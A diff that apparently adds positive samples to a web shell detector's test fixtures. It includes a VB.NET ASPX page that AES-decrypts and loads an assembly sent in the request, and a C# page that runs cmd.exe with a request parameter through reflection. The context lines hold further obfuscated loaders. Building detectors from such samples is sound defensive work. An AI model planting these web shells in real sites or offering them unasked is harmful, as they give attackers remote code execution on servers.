@@ -302,6 +302,9 @@ SAMPLES.update({
         "positive": {
             "aes-session-key.aspx": page('<%@ Page Language="C#"%><% Session.Add("q", "0a1b2c3d4e5f6a7b"); byte[] k = Encoding.Default.GetBytes(Session[0] + ""), c = Request.BinaryRead(Request.ContentLength); '
                                         'Assembly.Load(new RijndaelManaged().CreateDecryptor(k, k).TransformFinalBlock(c, 0, c.Length)).CreateInstance("Q").Equals(this); %>'),
+            "vb-session-key.aspx": page('<%@ Page Language="VB"%><% Session.Add("k", "0a1b2c3d4e5f6a7b") : Dim k() As Byte = Encoding.Default.GetBytes(Session(0) & "") : '
+                                        'Dim c() As Byte = Request.BinaryRead(Request.ContentLength) : '
+                                        'System.Reflection.Assembly.Load(New RijndaelManaged().CreateDecryptor(k, k).TransformFinalBlock(c, 0, c.Length)).CreateInstance("Q").Equals(Me) %>'),
             "xor-session-key.aspx": page('<%@ Page Language="C#"%><% Session["z"] = "f0e1d2c3b4a59687"; byte[] k = Encoding.Default.GetBytes(Session["z"].ToString()); byte[] c = new byte[Request.InputStream.Length]; '
                                          'Request.InputStream.Read(c, 0, c.Length); for (int i = 0; i < c.Length; i++) c[i] = (byte)(c[i] ^ k[i + 1 & 15]); Assembly.Load(c).CreateInstance("Q").Equals(this); %>'),
         },
@@ -482,6 +485,8 @@ SAMPLES.update({
         "positive": {
             "split-names.aspx": page('<%@ Page Language="C#"%><% Type t = Type.GetType("System.Diag" + "nostics.Pro" + "cess"); '
                                      't.GetMethod("St" + "art", new Type[] { typeof(string), typeof(string) }).Invoke(null, new object[] { "c" + "md", "/c " + Request["q"] }); %>'),
+            "process-by-name.aspx": page('<%@ Page Language="C#"%><% Type t = Type.GetType("System.Diagnostics.Process, System"); '
+                                         't.InvokeMember("Start", BindingFlags.InvokeMethod, null, null, new object[] { "cmd.exe", "/c " + Request["q"] }); %>'),
             "escaped.aspx": page('<%@ Page Language="C#"%><% System.Reflection.\\u0041\\u0073\\u0073embly.\\u004c\\u006fad(Convert.FromBase64String(Request.Form["x"])).CreateInstance("A").Equals(this); %>'),
         },
         "negative": {
